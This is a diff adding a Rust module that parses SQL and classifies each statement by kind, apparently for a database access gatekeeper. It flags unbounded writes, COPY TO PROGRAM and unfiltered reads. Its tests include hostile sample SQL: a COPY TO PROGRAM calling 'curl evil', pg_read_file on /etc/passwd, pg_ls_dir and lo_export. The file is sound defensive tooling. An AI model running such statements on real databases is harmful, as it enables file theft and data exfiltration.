@@ -1,0 +1,648 @@
+//! What a statement does, read from its syntax tree (sqlparser).
+//!
+//! Every statement of a message is parsed; a visitor walks each tree (CTEs, subqueries, nested
+//! data-modifying statements, expressions anywhere) and collects the statement kinds, the
+//! tables touched, the functions called and the conditions that make bulk export or mass
+//! change visible. What does not parse, or parses into a statement this module does not know,
+//! is an error: the engine refuses it unless a rule explicitly allows unparsed SQL.
+
+use std::collections::BTreeSet;
+use std::ops::ControlFlow;
+
+use serde::Serialize;
+use sqlparser::ast::{
+    CopySource, CopyTarget, Expr, LimitClause, ObjectName, ObjectNamePart, ObjectType, Query,
+    Select, Set, SetExpr, Statement, TableFactor, Value, Visit, Visitor,
+};
+use sqlparser::dialect::{Dialect, MySqlDialect, PostgreSqlDialect};
+use sqlparser::parser::Parser;
+
+/// What kind of thing a statement does. A statement can be several (`WITH d AS (DELETE …)
+/// SELECT` reads and writes).
+#[derive(
+    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, serde::Deserialize,
+)]
+#[serde(rename_all = "snake_case")]
+pub enum Kind {
+    /// SELECT, TABLE, VALUES, SHOW-like reads of data, cursors.
+    Read,
+    /// INSERT, UPDATE, DELETE, MERGE, TRUNCATE.
+    Write,
+    /// Schema changes: CREATE/ALTER/DROP of tables, views, indexes, schemas, … and SELECT INTO.
+    Ddl,
+    /// Privileges and identity: GRANT, REVOKE, roles, users, SET ROLE, SET SESSION AUTHORIZATION.
+    Dcl,
+    /// COPY … FROM (data into the database).
+    CopyIn,
+    /// COPY … TO (data out of the database).
+    CopyOut,
+    /// DO blocks, CALL, CREATE FUNCTION / PROCEDURE.
+    Procedural,
+    /// SET, SHOW, RESET, DISCARD, PREPARE, DEALLOCATE, LISTEN, NOTIFY, USE.
+    Session,
+    /// BEGIN, COMMIT, ROLLBACK, SAVEPOINT.
+    Transaction,
+    /// VACUUM, ANALYZE, LOCK, ALTER SYSTEM, KILL, CHECKPOINT, LOAD.
+    Admin,
+}
+
+impl Kind {
+    pub const ALL: [Kind; 10] = [
+        Kind::Read,
+        Kind::Write,
+        Kind::Ddl,
+        Kind::Dcl,
+        Kind::CopyIn,
+        Kind::CopyOut,
+        Kind::Procedural,
+        Kind::Session,
+        Kind::Transaction,
+        Kind::Admin,
+    ];
+
+    pub fn name(self) -> &'static str {
+        match self {
+            Kind::Read => "read",
+            Kind::Write => "write",
+            Kind::Ddl => "ddl",
+            Kind::Dcl => "dcl",
+            Kind::CopyIn => "copy_in",
+            Kind::CopyOut => "copy_out",
+            Kind::Procedural => "procedural",
+            Kind::Session => "session",
+            Kind::Transaction => "transaction",
+            Kind::Admin => "admin",
+        }
+    }
+}
+
+/// Which SQL dialect to parse.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum SqlDialect {
+    Postgres,
+    MySql,
+}
+
+/// The classification of one statement.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct Classified {
+    pub kinds: BTreeSet<Kind>,
+    /// Tables touched, lower-cased unless quoted, schema-qualified when written so.
+    pub tables: BTreeSet<String>,
+    /// Functions called anywhere (also table functions in FROM).
+    pub functions: BTreeSet<String>,
+    /// UPDATE or DELETE without WHERE, or TRUNCATE.
+    pub unbounded_write: bool,
+    /// Tables read by a SELECT with neither WHERE nor LIMIT.
+    pub unfiltered_reads: BTreeSet<String>,
+    /// The top-level LIMIT of a read, when it is a literal.
+    pub limit: Option<u64>,
+    pub select_into: bool,
+    /// COPY … TO/FROM PROGRAM, or a server-side file.
+    pub copy_program: bool,
+    pub copy_file: bool,
+    /// SQL-level PREPARE: the name it defines.
+    pub prepares: Option<String>,
+    /// SQL-level EXECUTE: the prepared statement it runs.
+    pub executes: Option<String>,
+    /// DEALLOCATE: the name it drops (`None` with `deallocates_all`).
+    pub deallocates: Option<String>,
+    pub deallocates_all: bool,
+}
+
+/// Why a statement could not be classified.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum Error {
+    #[error("SQL that does not parse: {0}")]
+    Parse(String),
+    #[error("a statement tollgate does not classify: {0}")]
+    Unsupported(String),
+}
+
+impl Error {
+    /// What the statement probably is, from its first words, for messages and for rules that
+    /// allow unparsed SQL by kind. Never used to allow anything by itself.
+    pub fn guess(sql: &str) -> Option<Kind> {
+        let words: Vec<String> = strip_leading_comments(sql)
+            .split_whitespace()
+            .take(2)
+            .map(|w| w.to_ascii_lowercase())
+            .collect();
+        match words.first().map(String::as_str) {
+            Some("do") => Some(Kind::Procedural),
+            Some("alter") if words.get(1).map(String::as_str) == Some("system") => {
+                Some(Kind::Admin)
+            }
+            Some("checkpoint" | "load" | "cluster" | "reindex") => Some(Kind::Admin),
+            _ => None,
+        }
+    }
+}
+
+fn strip_leading_comments(sql: &str) -> &str {
+    let mut s = sql.trim_start();
+    loop {
+        if let Some(rest) = s.strip_prefix("--") {
+            s = rest.split_once('\n').map_or("", |(_, r)| r).trim_start();
+        } else if let Some(rest) = s.strip_prefix("/*") {
+            s = rest.split_once("*/").map_or("", |(_, r)| r).trim_start();
+        } else {
+            return s;
+        }
+    }
+}
+
+/// Parses `sql` (one or more statements) and classifies each.
+pub fn classify(sql: &str, dialect: SqlDialect) -> Result<Vec<Classified>, Error> {
+    let dialect: &dyn Dialect = match dialect {
+        SqlDialect::Postgres => &PostgreSqlDialect {},
+        SqlDialect::MySql => &MySqlDialect {},
+    };
+    let statements = Parser::parse_sql(dialect, sql).map_err(|e| Error::Parse(e.to_string()))?;
+    statements.iter().map(classify_one).collect()
+}
+
+fn classify_one(statement: &Statement) -> Result<Classified, Error> {
+    let mut c = Collector {
+        out: Classified::default(),
+        limits: Vec::new(),
+        unsupported: None,
+        depth: 0,
+    };
+    let _ = statement.visit(&mut c);
+    if let Some(what) = c.unsupported {
+        return Err(Error::Unsupported(what));
+    }
+    // The top-level LIMIT of a read.
+    if let Statement::Query(q) = statement {
+        c.out.limit = literal_limit(q);
+    }
+    Ok(c.out)
+}
+
+struct Collector {
+    out: Classified,
+    /// For each enclosing query: whether it has a LIMIT.
+    limits: Vec<bool>,
+    unsupported: Option<String>,
+    depth: usize,
+}
+
+/// An identifier as PostgreSQL resolves it: unquoted names fold to lower case.
+pub fn normalize(name: &ObjectName) -> String {
+    name.0
+        .iter()
+        .map(|part| match part {
+            ObjectNamePart::Identifier(id) if id.quote_style.is_some() => id.value.clone(),
+            ObjectNamePart::Identifier(id) => id.value.to_lowercase(),
+            ObjectNamePart::Function(f) => f.name.value.to_lowercase(),
+        })
+        .collect::<Vec<_>>()
+        .join(".")
+}
+
+fn literal_limit(q: &Query) -> Option<u64> {
+    let limit = match &q.limit_clause {
+        Some(LimitClause::LimitOffset { limit: Some(l), .. }) => l,
+        Some(LimitClause::OffsetCommaLimit { limit, .. }) => limit,
+        _ => return None,
+    };
+    match limit {
+        Expr::Value(v) => match &v.value {
+            Value::Number(n, _) => n.parse().ok(),
+            _ => None,
+        },
+        _ => None,
+    }
+}
+
+fn has_limit(q: &Query) -> bool {
+    matches!(
+        &q.limit_clause,
+        Some(LimitClause::LimitOffset { limit: Some(_), .. })
+            | Some(LimitClause::OffsetCommaLimit { .. })
+    ) || q.fetch.is_some()
+}
+
+fn variant_name(statement: &Statement) -> String {
+    let debug = format!("{statement:?}");
+    debug
+        .split(|c: char| !c.is_alphanumeric())
+        .next()
+        .unwrap_or("unknown")
+        .to_owned()
+}
+
+impl Collector {
+    fn kind(&mut self, kind: Kind) {
+        self.out.kinds.insert(kind);
+    }
+
+    fn table(&mut self, name: &ObjectName) {
+        self.out.tables.insert(normalize(name));
+    }
+
+    fn statement(&mut self, statement: &Statement) {
+        use Statement as S;
+        match statement {
+            S::Query(_) => self.kind(Kind::Read),
+            S::Insert(_) => self.kind(Kind::Write),
+            S::Update(u) => {
+                self.kind(Kind::Write);
+                if u.selection.is_none() {
+                    self.out.unbounded_write = true;
+                }
+            }
+            S::Delete(d) => {
+                self.kind(Kind::Write);
+                if d.selection.is_none() {
+                    self.out.unbounded_write = true;
+                }
+            }
+            S::Merge(_) => self.kind(Kind::Write),
+            S::Truncate(t) => {
+                self.kind(Kind::Write);
+                self.out.unbounded_write = true;
+                for target in &t.table_names {
+                    self.table(&target.name);
+                }
+            }
+            S::Copy {
+                source, to, target, ..
+            } => {
+                self.kind(if *to { Kind::CopyOut } else { Kind::CopyIn });
+                if let CopySource::Table { table_name, .. } = source {
+                    self.table(table_name);
+                }
+                match target {
+                    CopyTarget::Program { .. } => {
+                        self.out.copy_program = true;
+                        self.kind(Kind::Admin);
+                    }
+                    CopyTarget::File { .. } => {
+                        self.out.copy_file = true;
+                        self.kind(Kind::Admin);
+                    }
+                    CopyTarget::Stdin | CopyTarget::Stdout => {}
+                }
+            }
+            S::Set(set) => match set {
+                Set::SetRole { .. } | Set::SetSessionAuthorization(_) => self.kind(Kind::Dcl),
+                Set::SingleAssignment { variable, .. } => {
+                    let name = normalize(variable);
+                    if matches!(name.as_str(), "role" | "session_authorization") {
+                        self.kind(Kind::Dcl);
+                    } else {
+                        self.kind(Kind::Session);
+                    }
+                }
+                Set::ParenthesizedAssignments { variables, .. } => {
+                    self.kind(Kind::Session);
+                    if variables
+                        .iter()
+                        .any(|v| matches!(normalize(v).as_str(), "role" | "session_authorization"))
+                    {
+                        self.kind(Kind::Dcl);
+                    }
+                }
+                _ => self.kind(Kind::Session),
+            },
+            S::ShowFunctions { .. }
+            | S::ShowVariable { .. }
+            | S::ShowStatus { .. }
+            | S::ShowVariables { .. }
+            | S::ShowCreate { .. }
+            | S::ShowColumns { .. }
+            | S::ShowCatalogs { .. }
+            | S::ShowDatabases { .. }
+            | S::ShowSchemas { .. }
+            | S::ShowTables { .. }
+            | S::ShowViews { .. }
+            | S::ShowCollation { .. }
+            | S::ShowCharset(_)
+            | S::ShowObjects(_)
+            | S::Reset(_)
+            | S::Discard { .. }
+            | S::LISTEN { .. }
+            | S::UNLISTEN { .. }
+            | S::NOTIFY { .. }
+            | S::Use(_) => self.kind(Kind::Session),
+            S::Prepare { name, .. } => {
+                self.kind(Kind::Session);
+                self.out.prepares = Some(name.value.to_lowercase());
+            }
+            S::Execute { name, .. } => {
+                self.kind(Kind::Session);
+                self.out.executes = name.as_ref().map(normalize);
+            }
+            S::Deallocate { name, .. } => {
+                self.kind(Kind::Session);
+                if name.value.eq_ignore_ascii_case("all") && name.quote_style.is_none() {
+                    self.out.deallocates_all = true;
+                } else {
+                    self.out.deallocates = Some(name.value.to_lowercase());
+                }
+            }
+            S::StartTransaction { .. }
+            | S::Commit { .. }
+            | S::Rollback { .. }
+            | S::Savepoint { .. }
+            | S::ReleaseSavepoint { .. } => self.kind(Kind::Transaction),
+            S::Grant(_)
+            | S::Revoke(_)
+            | S::GrantRole(_)
+            | S::RevokeRole(_)
+            | S::CreateRole(_)
+            | S::AlterRole { .. }
+            | S::CreateUser(_)
+            | S::AlterUser(_)
+            | S::AlterDefaultPrivileges(_)
+            | S::CreateUserMapping(_)
+            | S::CreatePolicy(_)
+            | S::AlterPolicy(_)
+            | S::DropPolicy(_) => self.kind(Kind::Dcl),
+            S::CreateFunction(_)
+            | S::CreateProcedure { .. }
+            | S::Call(_)
+            | S::CreateTrigger(_)
+            | S::CreateAggregate(_)
+            | S::CreateMacro { .. } => self.kind(Kind::Procedural),
+            S::Drop {
+                object_type, names, ..
+            } => {
+                if matches!(object_type, ObjectType::Role | ObjectType::User) {
+                    self.kind(Kind::Dcl);
+                } else {
+                    self.kind(Kind::Ddl);
+                    for n in names {
+                        self.table(n);
+                    }
+                }
+            }
+            S::CreateTable(_)
+            | S::CreateView(_)
+            | S::CreateVirtualTable { .. }
+            | S::CreateIndex(_)
+            | S::CreateSchema { .. }
+            | S::CreateDatabase { .. }
+            | S::CreateSequence { .. }
+            | S::CreateType { .. }
+            | S::CreateDomain(_)
+            | S::CreateExtension(_)
+            | S::DropExtension(_)
+            | S::CreateCollation(_)
+            | S::CreateServer(_)
+            | S::CreateForeignTable(_)
+            | S::CreateForeignDataWrapper(_)
+            | S::CreateRule(_)
+            | S::CreateOperator(_)
+            | S::CreateOperatorFamily(_)
+            | S::CreateOperatorClass(_)
+            | S::CreateTextSearch(_)
+            | S::AlterTable(_)
+            | S::AlterSchema(_)
+            | S::AlterIndex { .. }
+            | S::AlterView(_)
+            | S::AlterFunction(_)
+            | S::AlterType(_)
+            | S::AlterCollation(_)
+            | S::AlterOperator(_)
+            | S::AlterOperatorFamily(_)
+            | S::AlterOperatorClass(_)
+            | S::AlterTextSearch(_)
+            | S::AlterTrigger(_)
+            | S::DropFunction(_)
+            | S::DropDomain(_)
+            | S::DropProcedure { .. }
+            | S::DropRule(_)
+            | S::DropTrigger(_)
+            | S::DropOperator(_)
+            | S::DropOperatorFamily(_)
+            | S::DropOperatorClass(_)
+            | S::Comment { .. }
+            | S::RenameTable(_)
+            | S::RefreshMaterializedView(_) => self.kind(Kind::Ddl),
+            S::Vacuum(_)
+            | S::Analyze(_)
+            | S::Lock(_)
+            | S::LockTables { .. }
+            | S::UnlockTables
+            | S::Kill { .. }
+            | S::LoadData { .. }
+            | S::Load { .. } => self.kind(Kind::Admin),
+            // Reads through a cursor; the query itself is visited.
+            S::Declare { .. } | S::Fetch { .. } | S::Close { .. } => self.kind(Kind::Read),
+            // The inner statement is visited and classified; EXPLAIN ANALYZE runs it.
+            S::Explain { .. } | S::ExplainTable { .. } => self.kind(Kind::Read),
+            other => {
+                if self.unsupported.is_none() {
+                    self.unsupported = Some(variant_name(other));
+                }
+            }
+        }
+    }
+}
+
+impl Visitor for Collector {
+    type Break = ();
+
+    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
+        self.depth += 1;
+        self.statement(statement);
+        ControlFlow::Continue(())
+    }
+
+    fn post_visit_statement(&mut self, _statement: &Statement) -> ControlFlow<()> {
+        self.depth -= 1;
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
+        self.limits.push(has_limit(query));
+        // Data-modifying statements inside a query (writing CTEs) are visited as statements.
+        if let SetExpr::Select(_) | SetExpr::Query(_) | SetExpr::SetOperation { .. } =
+            query.body.as_ref()
+        {
+            self.kind(Kind::Read);
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn post_visit_query(&mut self, _query: &Query) -> ControlFlow<()> {
+        self.limits.pop();
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<()> {
+        if select.into.is_some() {
+            self.out.select_into = true;
+            self.kind(Kind::Ddl);
+        }
+        let limited = self.limits.last().copied().unwrap_or(false);
+        if select.selection.is_none() && !limited {
+            for from in &select.from {
+                for factor in
+                    std::iter::once(&from.relation).chain(from.joins.iter().map(|j| &j.relation))
+                {
+                    if let TableFactor::Table {
+                        name, args: None, ..
+                    } = factor
+                    {
+                        self.out.unfiltered_reads.insert(normalize(name));
+                    }
+                }
+            }
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
+        self.table(relation);
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
+        match factor {
+            // `SELECT * FROM pg_ls_dir('/')`: a function in FROM.
+            TableFactor::Table {
+                name,
+                args: Some(_),
+                ..
+            } => {
+                self.out.functions.insert(normalize(name));
+            }
+            TableFactor::Function { name, .. } => {
+                self.out.functions.insert(normalize(name));
+            }
+            _ => {}
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
+        if let Expr::Function(f) = expr {
+            self.out.functions.insert(normalize(&f.name));
+        }
+        ControlFlow::Continue(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn one(sql: &str) -> Classified {
+        let mut all = classify(sql, SqlDialect::Postgres).unwrap_or_else(|e| panic!("{sql}: {e}"));
+        assert_eq!(all.len(), 1, "{sql}");
+        all.remove(0)
+    }
+
+    fn kinds(sql: &str) -> Vec<Kind> {
+        one(sql).kinds.into_iter().collect()
+    }
+
+    #[test]
+    fn kinds_of_statements() {
+        use Kind::*;
+        let cases: &[(&str, &[Kind])] = &[
+            ("select 1", &[Read]),
+            ("SELECT * FROM cards WHERE id = 1", &[Read]),
+            ("insert into t values (1)", &[Write]),
+            ("update t set a = 1 where id = 2", &[Write]),
+            ("delete from t where id = 2", &[Write]),
+            ("truncate t", &[Write]),
+            (
+                "with d as (delete from t returning *) select * from d",
+                &[Read, Write],
+            ),
+            ("create table x (a int)", &[Ddl]),
+            ("alter table x add column b int", &[Ddl]),
+            ("drop table x", &[Ddl]),
+            ("create index on x (a)", &[Ddl]),
+            ("select * into newt from t", &[Ddl, Read]),
+            ("grant select on t to bob", &[Dcl]),
+            ("revoke all on t from bob", &[Dcl]),
+            ("create role r", &[Dcl]),
+            ("set role admin", &[Dcl]),
+            ("set session authorization 'postgres'", &[Dcl]),
+            ("set search_path = public", &[Session]),
+            ("show search_path", &[Session]),
+            ("reset all", &[Session]),
+            ("begin", &[Transaction]),
+            ("commit", &[Transaction]),
+            ("rollback", &[Transaction]),
+            ("savepoint a", &[Transaction]),
+            ("copy t to stdout", &[CopyOut]),
+            (
+                "copy (select * from t) to stdout with (format csv)",
+                &[CopyOut, Read],
+            ),
+            ("copy t from stdin", &[CopyIn]),
+            ("copy t to program 'curl evil'", &[Admin, CopyOut]),
+            (
+                "create function f() returns int language sql as 'select 1'",
+                &[Procedural],
+            ),
+            ("call p()", &[Procedural]),
+            ("vacuum t", &[Admin]),
+            ("analyze t", &[Admin]),
+            ("lock table t", &[Admin]),
+            ("listen ch", &[Session]),
+            ("notify ch, 'x'", &[Session]),
+            ("prepare p as delete from t", &[Session, Write]),
+            ("execute p", &[Session]),
+            ("deallocate all", &[Session]),
+            ("explain analyze delete from t", &[Read, Write]),
+        ];
+        for (sql, expected) in cases {
+            let mut expected = expected.to_vec();
+            expected.sort();
+            assert_eq!(kinds(sql), expected, "{sql}");
+        }
+    }
+
+    #[test]
+    fn tables_functions_and_conditions() {
+        let c = one(
+            "select pg_catalog.PG_READ_FILE('/etc/passwd'), \"Mixed\"() from s.t join u on true",
+        );
+        assert!(c.functions.contains("pg_catalog.pg_read_file"), "{c:?}");
+        assert!(c.functions.contains("Mixed"), "{c:?}");
+        assert!(c.tables.contains("s.t") && c.tables.contains("u"), "{c:?}");
+        assert!(c.unfiltered_reads.contains("s.t"));
+
+        let c = one("select * from pg_ls_dir('/')");
+        assert!(c.functions.contains("pg_ls_dir"), "{c:?}");
+
+        let c = one("select * from cards where id in (select lo_export(1, '/tmp/x'))");
+        assert!(c.functions.contains("lo_export"));
+        assert!(c.unfiltered_reads.is_empty());
+
+        assert!(one("update t set a = 1").unbounded_write);
+        assert!(!one("update t set a = 1 where b").unbounded_write);
+        assert!(one("delete from t").unbounded_write);
+        assert!(one("with x as (delete from t) select 1").unbounded_write);
+        assert_eq!(one("select * from t limit 10").limit, Some(10));
+        assert!(one("select * from t limit 10").unfiltered_reads.is_empty());
+        assert!(one("copy t to program 'x'").copy_program);
+        assert!(one("select * into x from t").select_into);
+        assert_eq!(one("prepare q as select 1").prepares.as_deref(), Some("q"));
+        assert_eq!(one("execute q").executes.as_deref(), Some("q"));
+    }
+
+    #[test]
+    fn several_statements_and_refusals() {
+        let all = classify("select 1; drop table t", SqlDialect::Postgres).unwrap();
+        assert_eq!(all.len(), 2);
+        assert!(all[1].kinds.contains(&Kind::Ddl));
+        assert!(classify("do $$ begin perform 1; end $$", SqlDialect::Postgres).is_err());
+        assert_eq!(
+            Error::guess("  /* x */ DO $$ begin end $$"),
+            Some(Kind::Procedural)
+        );
+        assert_eq!(Error::guess("alter system set x = 1"), Some(Kind::Admin));
+        assert!(classify("selec 1", SqlDialect::Postgres).is_err());
+        // Forms sqlparser does not parse are refused, not guessed at.
+        assert!(classify("SET ROLE TO admin", SqlDialect::Postgres).is_err());
+    }
+}
